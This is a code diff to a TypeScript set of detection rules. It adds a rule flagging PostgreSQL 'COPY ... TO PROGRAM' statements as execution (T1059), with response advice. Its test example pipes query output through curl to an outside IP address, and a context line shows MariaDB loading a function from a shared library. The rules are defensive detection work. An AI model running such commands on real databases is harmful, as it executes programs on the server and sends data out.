@@ -1,5 +1,5 @@
 import type { Rule } from "../../rule.ts";
-import { conjur, jenkins, mariadb, panther } from "../examples/consoles.ts";
+import { conjur, jenkins, mariadb, panther, pgaudit } from "../examples/consoles.ts";
 import { plainRule } from "../plain-rule.ts";
 import { traceRule } from "../trace-rule.ts";
 
@@ -103,6 +103,24 @@ export const SERVICES_CONSOLES: readonly Rule[] = [
     key: "action",
     fires: ["a function from a library", mariadb("CREATE FUNCTION x RETURNS int SONAME \\'u.so\\'")],
     quiet: ["a function of its own", mariadb("CREATE FUNCTION x() RETURNS int RETURN 1")],
+  }),
+  plainRule({
+    ...SOURCE,
+    id: "service-program-started",
+    title: "{identity_name} let the database {resource} start a program of its machine ({action})",
+    actions: ["COPY PROGRAM"],
+    when: { field: "provider", equals: "postgresql" },
+    severity: "high",
+    attack: { tactic: "Execution", technique: "T1059" },
+    expected: "tables are copied to whoever asks, and to no program",
+    shows: ["resource", "src_ip"],
+    falsePositives: ["A job of the server's own that packs what it copies."],
+    response: [
+      "Look at what was started: the log has the statement, the machine's audit the program.",
+      "Take pg_execute_server_program and the rights of a superuser away from the identity.",
+    ],
+    fires: ["one", pgaudit("MISC,COPY", "COPY (SELECT 1) TO PROGRAM 'curl -d @- https://203.0.113.66'")],
+    quiet: ["to whoever asks", pgaudit("READ,COPY", "COPY cards TO STDOUT")],
   }),
   traceRule({
     ...SOURCE,
